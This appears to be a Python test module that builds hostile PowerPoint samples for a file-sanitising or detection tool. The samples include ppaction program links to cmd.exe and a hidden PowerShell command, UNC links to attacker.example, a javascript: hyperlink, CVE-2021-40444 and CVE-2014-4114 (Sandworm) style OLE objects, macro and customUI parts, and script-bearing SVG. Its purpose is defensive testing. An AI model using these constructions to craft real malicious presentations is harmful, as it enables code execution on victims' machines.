"""Hostile presentations (ECMA-376 Part 1 §19, §21): ppaction programs and macros, OLE verbs in timing,
external media and objects."""

from __future__ import annotations

import html
import re
from pathlib import Path

from tests import office_builders as base
from tests.attacks.builders import Expect, sample
from tests.attacks.builders.ooxml_parts import (
    MHTML,
    RT,
    SLIDE,
    SLIDE_RELS,
    add_part,
    packager_ole1,
    vba_everywhere,
    with_customui,
)


def _pptx_action(action: str, target: str | None, element: str = "hlinkClick") -> bytes:
    package = base.Package(base.pptx_bytes())
    rid = ""
    if target is not None:
        package.add_rel(SLIDE_RELS, "rIdAct", RT + "hyperlink", html.escape(target), True)
        rid = ' r:id="rIdAct"'
    slide = package.text(SLIDE).replace(
        'name="Title 1"/>', f'name="Title 1"><a:{element}{rid} action="{html.escape(action)}"/></p:cNvPr>', 1
    )
    package.put(SLIDE, slide)
    return package.bytes()


@sample("pptx_benign", ".pptx", "control", "python-pptx presentation", Expect.RELEASED)
def pptx_benign(work: Path) -> bytes:
    return base.pptx_bytes()


@sample(
    "pptx_ppaction_program",
    ".pptx",
    "ppaction",
    "§21.1.2.3.5 hlinkClick action ppaction://program (mouse-click run)",
)
def pptx_ppaction_program(work: Path) -> bytes:
    return _pptx_action("ppaction://program", "file:///C:/Windows/System32/cmd.exe")


@sample(
    "pptx_ppaction_program_hover",
    ".pptx",
    "ppaction",
    "§21.1.2.3.6 hlinkHover: runs on mouse-over (PowerPoint mouseover malware, 2017)",
)
def pptx_ppaction_program_hover(work: Path) -> bytes:
    return _pptx_action("ppaction://program", "powershell.exe -nop -w hidden -c calc", "hlinkHover")


@sample("pptx_ppaction_macro", ".pptx", "ppaction", "[MS-PPTX] ppaction://macro?name= runs a VBA macro")
def pptx_ppaction_macro(work: Path) -> bytes:
    return _pptx_action("ppaction://macro?name=AutoOpen", None)


@sample("pptx_ppaction_ole", ".pptx", "ppaction", "[MS-PPTX] ppaction://ole?verb=0 activates an OLE object")
def pptx_ppaction_ole(work: Path) -> bytes:
    return _pptx_action("ppaction://ole?verb=0", None)


@sample("pptx_hlinkfile_unc", ".pptx", "ppaction", "ppaction://hlinkfile to a UNC executable")
def pptx_hlinkfile_unc(work: Path) -> bytes:
    return _pptx_action("ppaction://hlinkfile", "\\\\attacker.example\\share\\x.exe")


@sample(
    "pptx_hyperlink_javascript",
    ".pptx",
    "external-relationship",
    "hyperlink relationship with a javascript: target",
)
def pptx_hyperlink_javascript(work: Path) -> bytes:
    return _pptx_action("", "javascript:alert(1)")


@sample(
    "pptx_external_video", ".pptx", "external-relationship", "§20.1.3.6 videoFile r:link to a remote file"
)
def pptx_external_video(work: Path) -> bytes:
    package = base.Package(base.pptx_bytes())
    package.add_rel(SLIDE_RELS, "rIdVid", RT + "video", "\\\\attacker.example\\share\\v.mp4", True)
    slide = package.text(SLIDE).replace(
        '<p:nvPr><p:ph type="title"/></p:nvPr>',
        '<p:nvPr><p:ph type="title"/><a:videoFile r:link="rIdVid"/></p:nvPr>',
        1,
    )
    package.put(SLIDE, slide)
    return package.bytes()


@sample("pptx_oleobject_mhtml", ".pptx", "external-relationship", "CVE-2021-40444 style oleObject in a slide")
def pptx_oleobject_mhtml(work: Path) -> bytes:
    package = base.Package(base.pptx_bytes())
    package.add_rel(SLIDE_RELS, "rIdOle", RT + "oleObject", html.escape(MHTML), True)
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/>'
        '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        '<p:oleObj r:id="rIdOle" progId="htmlfile"><p:link updateAutomatic="1"/></p:oleObj>'
        "</a:graphicData></a:graphic></p:graphicFrame>"
    )
    package.put(SLIDE, package.text(SLIDE).replace("</p:spTree>", frame + "</p:spTree>", 1))
    return package.bytes()


@sample("pptm_vba", ".pptm", "macros", "[MS-OFFMACRO] vbaProject in a macro-enabled presentation")
def pptm_vba(work: Path) -> bytes:
    return vba_everywhere(
        base.Package(base.pptx_bytes()),
        "ppt",
        "ppt/_rels/presentation.xml.rels",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    )


@sample("pptx_customui_onload", ".pptx", "customui", "[MS-CUSTOMUI] onLoad in a presentation")
def pptx_customui_onload(work: Path) -> bytes:
    return with_customui(base.Package(base.pptx_bytes()))


@sample("pptx_run_level_ppaction", ".pptx", "ppaction", "§21.1.2.3.5 hlinkClick inside a text run's a:rPr")
def pptx_run_level_ppaction(work: Path) -> bytes:
    package = base.Package(base.pptx_bytes())
    package.add_rel(SLIDE_RELS, "rIdRun", RT + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)
    slide = package.text(SLIDE).replace(
        "<a:r><a:t>熊出没注意</a:t></a:r>",
        '<a:r><a:rPr lang="ja-JP"><a:hlinkClick r:id="rIdRun" action="ppaction://program"/></a:rPr><a:t>熊出没注意</a:t></a:r>',
        1,
    )
    package.put(SLIDE, slide)
    return package.bytes()


@sample(
    "pptx_ppaction_uppercase", ".pptx", "ppaction", "RFC 3986 §3.1: the scheme 'PPACTION' is case-insensitive"
)
def pptx_ppaction_uppercase(work: Path) -> bytes:
    return _pptx_action("PPACTION://PROGRAM", "file:///C:/Windows/System32/calc.exe")


def _sandworm(suffix_main: str | None) -> bytes:
    """An embedded Packager object plus a slide timing node that fires its verb when the show starts."""
    package = base.Package(base.pptx_bytes())
    add_part(
        package,
        "ppt/embeddings/oleObject1.bin",
        packager_ole1(),
        "application/vnd.openxmlformats-officedocument.oleObject",
        SLIDE_RELS,
        "rIdOle",
        RT + "oleObject",
    )
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object 8"/><p:cNvGraphicFramePr/><p:nvPr/>'
        '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        '<p:oleObj r:id="rIdOle" progId="Package" name="slide"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
    )
    timing = (
        '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" nodeType="tmRoot"><p:childTnLst>'
        '<p:cmd type="verb" cmd="3"><p:cBhvr><p:cTn id="2" dur="1000"/><p:tgtEl><p:spTgt spid="9"/></p:tgtEl></p:cBhvr>'
        "</p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>"
    )
    slide = package.text(SLIDE).replace("</p:spTree>", frame + "</p:spTree>", 1)
    package.put(SLIDE, slide.replace("</p:clrMapOvr>", "</p:clrMapOvr>" + timing, 1))
    if suffix_main:
        package.main_type(
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", suffix_main
        )
    return package.bytes()


@sample(
    "pptx_sandworm_ole_verb",
    ".pptx",
    "ole-embedding",
    "CVE-2014-4114 (Sandworm): Packager OLE + p:cmd type=verb on show start",
)
def pptx_sandworm_ole_verb(work: Path) -> bytes:
    return _sandworm(None)


@sample(
    "ppsx_sandworm_ole_verb",
    ".ppsx",
    "ole-embedding",
    "CVE-2014-4114 as .ppsx: opens straight into the slide show",
)
def ppsx_sandworm_ole_verb(work: Path) -> bytes:
    return _sandworm("application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml")


def _pptx_part_action(part: str, rels: str) -> bytes:
    package = base.Package(base.pptx_bytes())
    package.add_rel(rels, "rIdAct", RT + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)
    text = package.text(part)
    package.put(
        part,
        re.sub(
            r'(<p:cNvPr id="\d+" name="[^"]*")/>',
            r'\1><a:hlinkHover r:id="rIdAct" action="ppaction://program"/></p:cNvPr>',
            text,
            count=1,
        ),
    )
    return package.bytes()


@sample(
    "pptx_layout_ppaction",
    ".pptx",
    "ppaction",
    "§19.3.1.39 slide layout shapes act on every slide that uses the layout",
)
def pptx_layout_ppaction(work: Path) -> bytes:
    return _pptx_part_action(
        "ppt/slideLayouts/slideLayout2.xml", "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
    )


@sample(
    "pptx_master_ppaction",
    ".pptx",
    "ppaction",
    "§19.3.1.42 slide master shape with a mouse-over program action",
)
def pptx_master_ppaction(work: Path) -> bytes:
    return _pptx_part_action(
        "ppt/slideMasters/slideMaster1.xml", "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    )


@sample(
    "pptx_svg_blip",
    ".pptx",
    "markup-part",
    "[MS-ODRAWXML] asvg:svgBlip: an SVG with script behind a PNG fallback",
)
def pptx_svg_blip(work: Path) -> bytes:
    import io

    import pptx

    from tests import builders as pictures
    from tests.attacks.builders.ooxml_parts import SVG_SCRIPT

    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    slide.shapes.add_picture(io.BytesIO(pictures.simple("PNG", (40, 30))), 0, 0)
    out = io.BytesIO()
    deck.save(out)
    package = base.Package(out.getvalue())
    add_part(package, "ppt/media/evil.svg", SVG_SCRIPT, "image/svg+xml", SLIDE_RELS, "rIdSvg", RT + "image")
    svg = (
        '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
        'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdSvg"/></a:ext></a:extLst>'
    )
    slide_xml = re.sub(
        r'(<a:blip r:embed="[^"]+")/>',
        lambda m: m.group(1) + ">" + svg + "</a:blip>",
        package.text(SLIDE),
        count=1,
    )
    package.put(SLIDE, slide_xml)
    return package.bytes()


@sample(
    "pptx_hlinkpres_unc",
    ".pptx",
    "ppaction",
    "ppaction://hlinkpres: jump into another presentation on a share",
)
def pptx_hlinkpres_unc(work: Path) -> bytes:
    return _pptx_action(
        "ppaction://hlinkpres?slideindex=1&slidetitle=", "\\\\attacker.example\\share\\deck.ppsm"
    )
